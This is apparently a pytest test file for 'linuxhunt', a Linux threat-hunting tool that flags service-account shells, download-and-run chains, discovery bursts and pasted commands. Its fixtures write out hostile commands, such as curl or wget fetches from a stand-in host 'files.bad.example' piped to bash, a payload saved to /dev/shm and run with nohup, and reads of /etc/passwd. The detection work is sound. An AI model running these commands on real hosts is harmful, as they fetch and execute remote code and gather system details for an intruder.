"""What takes more than one command line to see."""

from __future__ import annotations

from typing import Any

import pytest

from linuxhunt.sections.finding import Finding
from linuxhunt.sections.processes import (
    DiscoveryBurst,
    DownloadAndRun,
    FasterThanTyped,
    ServiceShell,
)
from tests.made import events
from tests.sections.commands_made import ran


def script(text: str) -> list[str]:
    return ["sh", "-c", text]


def told(found: list[Finding]) -> list[tuple[str, str, tuple[str, ...]]]:
    """Return severity, kind and records of findings."""
    return [(f.severity, f.title.split(":")[0], f.records) for f in found]


WEB = {"ActorUserId": None, "TargetUserId": 33, "ActorSessionId": None, "LogonSessionId": None,
       "Tty": None, "TargetProcessCurrentDirectory": "/var/www/shop"}  # fmt: skip
SERVICE = {**WEB, "TargetUserId": 998, "TargetProcessCurrentDirectory": "/"}


@pytest.mark.parametrize(
    ("rows", "severities"),
    [
        pytest.param([ran(0, "", "a", argv=script("id; whoami"), **WEB)], ["Medium"], id="whoami"),
        pytest.param(
            [
                ran(0, "", "a", argv=script("id"), **WEB),
                ran(60, "", "b", argv=script("uname -a"), **WEB),
                ran(90, "", "c", argv=script("cat /etc/passwd"), **WEB),
            ],
            ["High"],
            id="three kinds of question",
        ),
        pytest.param(
            [
                ran(0, "", "a", argv=script("whoami"), **WEB),
                ran(9_000, "", "b", argv=script("whoami"), **WEB),
            ],
            ["Medium", "Medium"],
            id="two visits",
        ),
        pytest.param(
            [
                ran(0, "sh -i", "a", **WEB),
                ran(5, "ls -la", "b", parent="a", **WEB),
            ],
            ["High"],
            id="a shell that waits",
        ),
        pytest.param([ran(0, "ls /tmp", "a", **WEB)], ["Low"], id="a look at files"),
        pytest.param(
            [ran(0, "", "a", argv=script("/usr/sbin/sendmail -t -i"), **WEB)], [], id="sendmail"
        ),
        pytest.param(
            [
                ran(0, "/usr/sbin/httpd", "top", parent="init", **SERVICE),
                ran(1, "", "a", parent="top", argv=script("whoami"), **SERVICE),
            ],
            ["Medium"],
            id="below a server program of an unknown account",
        ),
        pytest.param(
            [
                ran(0, "/usr/bin/java -jar app.jar", "top", parent="init", **SERVICE),
                ran(1, "", "a", parent="top", argv=script("cat /etc/passwd; id"), **SERVICE),
            ],
            ["Medium"],
            id="below java",
        ),
        pytest.param(
            [ran(0, "", "a", argv=script("whoami; df -h"), **SERVICE)], [], id="another service"
        ),
        pytest.param(
            [ran(0, "", "a", argv=script("uname -a; id; w"), **SERVICE)],
            ["Medium"],
            id="another service asks who and what at once",
        ),
        pytest.param(
            [
                ran(0, "/usr/bin/mongod", "top", parent="init", **SERVICE),
                ran(1, "", "a", parent="top", argv=script("ifconfig || ip a"), **SERVICE),
            ],
            ["Medium"],
            id="a database asks about the network",
        ),
        pytest.param(
            [ran(0, "", "a", argv=script("ifconfig || ip a"), **WEB)],
            ["Low"],
            id="a web server asks about the network",
        ),
        pytest.param(
            [ran(0, "", "a", argv=script("id"), **{**WEB, "ActorUserId": 1000})],
            [],
            id="a person as the web user",
        ),
    ],
)
def test_service_shell(rows: list[dict[str, Any]], severities: list[str]) -> None:
    found = ServiceShell().run({"processes": events("processes", rows)})
    assert [finding.severity for finding in found] == severities


@pytest.mark.parametrize(
    ("rows", "expected"),
    [
        pytest.param(
            [
                ran(0, "curl -s http://files.bad.example/i.sh", "a"),
                ran(0.1, "bash", "b"),
                ran(2, "id", "c", parent="b"),
            ],
            [("High", "Download piped to a shell", ("audit:a", "audit:b", "audit:c"))],
            id="siblings, with what the shell ran",
        ),
        pytest.param(
            [
                ran(0, "wget -qO- https://files.bad.example/i.sh", "a"),
                ran(0.1, "sudo bash -s -- -y", "b"),
            ],
            [("Medium", "Download piped to a shell", ("audit:a", "audit:b"))],
            id="encrypted, into sudo",
        ),
        pytest.param(
            [ran(0, "curl -fsSL https://get.docker.com", "a"), ran(0.1, "sh", "b")],
            [("Low", "Download piped to a shell", ("audit:a", "audit:b"))],
            id="a maker's installer",
        ),
        pytest.param(
            [ran(0, "curl -s https://api.example.com/x", "a"), ran(30, "bash", "b")],
            [],
            id="a shell later",
        ),
        pytest.param(
            [ran(0, "curl -s http://127.0.0.1/health", "a"), ran(0.1, "bash", "b")], [], id="local"
        ),
        pytest.param(
            [
                ran(0, "", "top", argv=script("curl -s http://files.bad.example/x | sh")),
                ran(0.1, "curl -s http://files.bad.example/x", "a", parent="top"),
                ran(0.1, "sh", "b", parent="top"),
            ],
            [],
            id="the parent's text says it all",
        ),
        pytest.param(
            [
                ran(0, "curl -so /dev/shm/.x http://files.bad.example/x", "a"),
                ran(1, "chmod 755 /dev/shm/.x", "b"),
                ran(2, "nohup /dev/shm/.x -q", "c"),
            ],
            [("High", "Download run", ("audit:a", "audit:b", "audit:c"))],
            id="saved, made executable, run",
        ),
        pytest.param(
            [
                ran(0, "wget http://files.bad.example/a/go.sh?v=2", "a",
                    TargetProcessCurrentDirectory="/tmp"),
                ran(9, "bash go.sh", "b", TargetProcessCurrentDirectory="/tmp"),
            ],
            [("Medium", "Download run", ("audit:a", "audit:b"))],
            id="relative to the working directory",
        ),
        pytest.param(
            [
                ran(0, "curl -fsSL https://get.docker.com -o get-docker.sh", "a"),
                ran(9, "sh get-docker.sh", "b"),
            ],
            [("Low", "Download run", ("audit:a", "audit:b"))],
            id="installer saved and run",
        ),
        pytest.param(
            [
                ran(0, "wget https://example.org/tool.tar.gz", "a"),
                ran(9, "tar xzf tool.tar.gz", "b"),
            ],
            [],
            id="unpacked only",
        ),
    ],
)  # fmt: skip
def test_download_and_run(
    rows: list[dict[str, Any]], expected: list[tuple[str, str, tuple[str, ...]]]
) -> None:
    assert told(DownloadAndRun().run({"processes": events("processes", rows)})) == expected


LOOKS = ("whoami", "id", "uname -a", "cat /etc/passwd", "sudo -l", "ip a", "ps aux", "w")


@pytest.mark.parametrize(
    ("rows", "severities"),
    [
        pytest.param([ran(n * 8, c, c) for n, c in enumerate(LOOKS)], ["Medium"], id="burst"),
        pytest.param([ran(n * 600, c, c) for n, c in enumerate(LOOKS)], [], id="slow"),
        pytest.param(
            [ran(n, c, c) for n, c in enumerate(("w", "df -h", "uptime", "ps aux", "ss -tlnp",
                                                 "free -m", "last", "ip a", "uname -a", "id"))],
            [], id="a look at the host's health",
        ),
        pytest.param(
            [
                ran(0, "python3 /root/.ansible/tmp/x/AnsiballZ_setup.py", "facts"),
                *(ran(n * 0.1, c, c, parent="facts") for n, c in enumerate(LOOKS)),
            ],
            [], id="an inventory",
        ),
    ],
)  # fmt: skip
def test_discovery_burst(rows: list[dict[str, Any]], severities: list[str]) -> None:
    found = DiscoveryBurst().run({"processes": events("processes", rows)})
    assert [finding.severity for finding in found] == severities


@pytest.mark.parametrize(
    ("rows", "severities"),
    [
        pytest.param(
            [ran(-60, "-bash", "shell", parent="sshd"),
             *(ran(n * 0.1, f"tool{n}", f"g{n}") for n in range(9))],
            ["Low"], id="pasted",
        ),
        pytest.param(
            [ran(-60, "-bash", "shell", parent="sshd"),
             *(ran(n * 0.1, c, c) for n, c in enumerate((*LOOKS, "last", "lastlog")))],
            ["Medium"], id="pasted questions",
        ),
        pytest.param(
            [ran(-60, "-bash", "shell", parent="sshd"),
             *(ran(n * 4, f"tool{n}", f"g{n}") for n in range(9))],
            [], id="typed",
        ),
        pytest.param(
            [ran(-0.5, "-bash", "shell", parent="sshd"),
             *(ran(n * 0.1, f"tool{n}", f"g{n}") for n in range(9))],
            [], id="start files of the shell",
        ),
        pytest.param(
            [ran(-60, "bash build.sh", "shell", parent="x"),
             *(ran(n * 0.1, f"tool{n}", f"g{n}") for n in range(9))],
            [], id="a script",
        ),
    ],
)  # fmt: skip
def test_faster_than_typed(rows: list[dict[str, Any]], severities: list[str]) -> None:
    found = FasterThanTyped().run({"processes": events("processes", rows)})
    assert [finding.severity for finding in found] == severities
